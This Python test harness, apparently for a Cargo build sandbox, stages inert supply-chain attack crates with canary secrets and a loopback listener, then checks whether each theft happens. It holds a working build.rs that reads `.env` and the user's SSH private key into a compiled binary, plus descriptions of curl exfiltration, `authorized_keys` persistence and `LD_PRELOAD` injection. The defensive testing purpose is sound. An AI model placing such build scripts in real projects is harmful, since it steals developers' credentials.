"""The thefts: crates of the demo and of `tests/crates`, one to a workspace, so that a peer which ends the build at the first is asked about
the others, too. All inert: canaries, a listener on loopback, a copy of /bin/true. In: nothing. Out: workspaces, and whether the harm came
about.

Their listener's port is written into the sources, as the real ones' addresses were: a peer that empties the environment has stopped nothing
by that."""

import socket
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from . import home

DEMO = home.TOP / "src/demo/workspace/deps"
ZOO = home.TOP / "tests/crates"
# After the end of a run, for what it left behind.
LATE = 5


class Sink:
    """A listener on loopback that keeps what arrives, and answers like a web server so that curl is content."""

    def __init__(self):
        self.heard = b""
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            try:
                stream = self.listener.accept()[0]
            except OSError:
                return
            threading.Thread(target=self.take, args=(stream,), daemon=True).start()

    def take(self, stream):
        stream.settimeout(2)
        request = b""
        try:
            while not complete(request):
                more = stream.recv(4096)
                if not more:
                    break
                request += more
                self.heard += more
            stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        stream.close()

    def close(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


def complete(request):
    head, gap, body = request.partition(b"\r\n\r\n")
    lengths = [line.split(b":")[1] for line in head.lower().splitlines() if line.startswith(b"content-length:")]
    return bool(gap) and len(body) >= (int(lengths[0]) if lengths else 0)


@dataclass
class Theft:
    """One harm. Those with the same workspace are seen in one run."""

    what: str
    workspace: str
    culprit: str
    # Rules of Brig under which it may be found.
    rules: tuple
    # What a line about it contains, in a record of system calls; {port}, {home} and {workspace} are filled in.
    mark: str
    # (how it shows, word): leaks, steals, reaches, says, touches.
    effect: tuple
    cargo: str = "build"
    late: bool = False


@dataclass
class Stage:
    """A workspace, and the ports, secrets and words that belong to a run in it."""

    place: Path
    canary: str
    sink: Sink
    touched: dict = field(default_factory=dict)


THEFTS = [
    Theft("build script compiles `.env` into the program", "compiles-in", "settings-gen", ("secret/read",), '/.env"', ("leaks", ".env")),
    Theft("build script compiles an ssh key into the program", "compiles-in", "settings-gen", ("secret/read",), "id_ed25519", ("leaks", "id_ed25519")),
    Theft("build script leaves a shell behind that posts ssh and cloud keys with curl", "shell", "build-info",
          ("secret/read", "exec/downloader", "secret/then-network"), "id_ed25519", ("steals", ""), late=True),
    Theft("build script connects to a bare address", "dropper", "proc-macro1", ("net/connect",), "htons({port})", ("reaches", "GET /proc-macro1")),
    Theft("build script starts a program it dropped", "dropper", "proc-macro1", ("exec/dropped",), "/rust-setup", ("says", "the second stage runs")),
    Theft("macro reads `.env` inside the compiler and posts it", "macro", "quick_derive", ("secret/read",), '/.env"', ("steals", "")),
    Theft("the compiler itself embeds `.env` (`include_str!`)", "include-str", "build_consts", ("secret/read",), '/.env"', ("leaks", ".env")),
    Theft("library posts `.env` with curl when a test calls it", "test", "chrono_anchor", ("secret/read",), '".env"', ("steals", ""), "test", late=True),
    Theft("build script writes into another crate's `OUT_DIR`", "foreign", "planter", ("fs/foreign-artifact",), "zoo-in-your-out-dir",
          ("says", "zoo: planted")),
    Theft("`cargo:rustc-env=LD_PRELOAD` reaches the compiler", "preload", "preloader", ("env/loader",), "/nonexistent/zoo-inert.so",
          ("says", "cannot be preloaded")),
    Theft("build script adds a key to `authorized_keys`", "keys", "logs-update", ("fs/persist",), "authorized_keys",
          ("touches", ".ssh/authorized_keys")),
]

# A build script, a macro and a test that do what honest ones do. Whoever stops these has stopped the thefts by standing still.
HONEST = Theft("control: an honest build script, macro and test", "honest", "", (), "", ("says", "test honest ... ok"), "test")

HONEST_FILES = {
    "src/lib.rs": """
#[derive(plain_derive::Plain)]
pub struct Thing;
include!(concat!(env!("OUT_DIR"), "/built.rs"));
#[test]
fn honest() {
    assert_eq!((BUILT, Thing::plain()), (7, 7));
}
""",
    "build.rs": """
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(out + "/built.rs", "pub const BUILT: u32 = 7;").unwrap();
}
""",
    "deps/plain_derive/src/lib.rs": """
#[proc_macro_derive(Plain)]
pub fn plain(_: proc_macro::TokenStream) -> proc_macro::TokenStream {
    "impl Thing { pub fn plain() -> u32 { 7 } }".parse().unwrap()
}
""",
    "deps/plain_derive/Cargo.toml": '[package]\nname = "plain_derive"\nversion = "0.1.0"\nedition = "2024"\n[lib]\nproc-macro = true\n',
}

# Not in the zoo, which has it in parts: secrets that leave in what is built, without any network.
COMPILES_IN = {
    "deps/settings-gen/Cargo.toml": '[package]\nname = "settings-gen"\nversion = "0.1.0"\nedition = "2024"\n',
    "deps/settings-gen/src/lib.rs": 'include!(concat!(env!("OUT_DIR"), "/settings.rs"));\n',
    "deps/settings-gen/build.rs": """
use std::{env, fs};

fn main() {
    let read = |path: String| fs::read_to_string(path).unwrap_or_default();
    let project = read(env::var("CARGO_MANIFEST_DIR").unwrap() + "/../../.env");
    let key = read(env::var("HOME").unwrap() + "/.ssh/id_ed25519");
    let text = format!("pub const SETTINGS: &[&str] = &[{project:?}, {key:?}];");
    fs::write(env::var("OUT_DIR").unwrap() + "/settings.rs", text).unwrap();
}
""",
}

SHOW_SETTINGS = 'fn main() { println!("{:?}", NAME::SETTINGS); }\n'
RANGE = "#[derive(quick_derive::Quick)]\npub struct Range;\n"
CHECK = """
#[test]
fn end_comes_after_start() {
    assert!(chrono_anchor::check_params(1, 2));
    chrono_anchor::settle();
}
"""


def app(dependencies, files):
    """A package that trusts these crates, each a directory of the demo or the zoo."""
    manifest = '[workspace]\nexclude = ["deps"]\n[package]\nname = "app"\nversion = "0.1.0"\nedition = "2024"\n[dependencies]\n'
    found = dict(files)
    if not any(path.startswith("src/") for path in files):
        found["src/lib.rs"] = "//! Uses a crate and never looks inside.\n"
    for dependency in dependencies:
        found |= tree(dependency, f"deps/{dependency.name}")
    names = sorted({path.split("/")[1] for path in found if path.startswith("deps/")} - {"proc-macro1", "victim"})
    return found | {"Cargo.toml": manifest + "".join(f'{name} = {{ path = "deps/{name}" }}\n' for name in names)}


def tree(top, below):
    paths = [path for path in top.rglob("*") if path.is_file() and "target" not in path.relative_to(top).parts]
    return {f"{below}/{path.relative_to(top)}": path.read_text() for path in paths}


def files(workspace):
    match workspace:
        case "honest":
            return app([], HONEST_FILES)
        case "compiles-in":
            return app([], COMPILES_IN | {"src/main.rs": SHOW_SETTINGS.replace("NAME", "settings_gen")})
        case "shell":
            return tree(ZOO / "04-sh-unawaited", ".")
        case "dropper":
            return app([DEMO / "arrayref", DEMO / "proc-macro1"], {})
        case "macro":
            return app([DEMO / "quick_derive"], {"src/lib.rs": RANGE})
        case "include-str":
            return app([DEMO / "build_consts"], {"src/main.rs": SHOW_SETTINGS.replace("NAME", "build_consts")})
        case "test":
            return app([DEMO / "chrono_anchor"], {"src/lib.rs": CHECK})
        case "foreign":
            found = tree(ZOO / "09-foreign-artifact", ".")
            act = 'let _ = fs::write(dir.join("zoo-in-your-out-dir"), "");'
            told = f'if fs::write(dir.join("zoo-in-your-out-dir"), "").is_ok() {{ println!("cargo:warning=zoo: planted"); }}'
            return swapped(found, act, told)
        case "preload":
            return tree(ZOO / "08-rustc-env", ".")
        case "keys":
            return tree(ZOO / "12-authorized-keys", ".")
    raise ValueError(workspace)


def swapped(found, old, new):
    """Where the harm would show only in a directory that a peer may keep to itself, it is made to say so."""
    changed = {path: text.replace(old, new) for path, text in found.items()}
    if changed == found:
        raise SystemExit(f"no file has `{old}` any more")
    return changed


def set_stage(theft):
    sink = Sink()
    found = files(theft.workspace)
    port = f'Some(String::from("{sink.port}"))'
    for old, new in [
        ('std::env::var("DEMO_PORT").ok()', port),
        ("$ZOO_TCP", str(sink.port)),
    ]:
        found = {path: text.replace(old, new) for path, text in found.items()}
    left = [path for path, text in found.items() if "DEMO_PORT" in text or "ZOO_TCP" in text]
    if left:
        raise SystemExit(f"nobody tells {left} where the listener is")
    canary = home.secrets()
    found[".env"] = f"APP_SECRET={canary}-.env\n"
    place = home.workspace(theft.workspace, found)
    Path("/tmp/rust-setup").unlink(missing_ok=True)
    stage = Stage(place, canary, sink)
    stage.touched = {path: (home.HOME / path).read_bytes() for path in [".ssh/authorized_keys"]}
    return stage


def happened(theft, stage, done):
    """Has the harm come about? For those left behind, it gets time to."""
    until = time.monotonic() + (LATE if theft.late else 0)
    while not (seen := shows(theft, stage, done)) and time.monotonic() < until:
        time.sleep(0.1)
    return seen


def shows(theft, stage, done):
    how, word = theft.effect
    match how:
        case "leaks":
            needle = f"{stage.canary}-{word}".encode()
            built = [path for path in stage.place.rglob("*") if path.is_file() and path != stage.place / ".env" and not path.is_symlink()]
            return any(needle in path.read_bytes() for path in built if "brig" not in path.parts)
        case "steals":
            return stage.canary.encode() in stage.sink.heard
        case "reaches":
            return word.encode() in stage.sink.heard
        case "says":
            # Printed by cargo, or by a build script, whose words cargo keeps.
            kept = [path for path in stage.place.glob("target/**/build/*/*") if path.name in ("output", "stderr")]
            return word in done.text or any(word.encode() in path.read_bytes() for path in kept)
        case "touches":
            return (home.HOME / word).read_bytes() != stage.touched[word]
    raise ValueError(how)
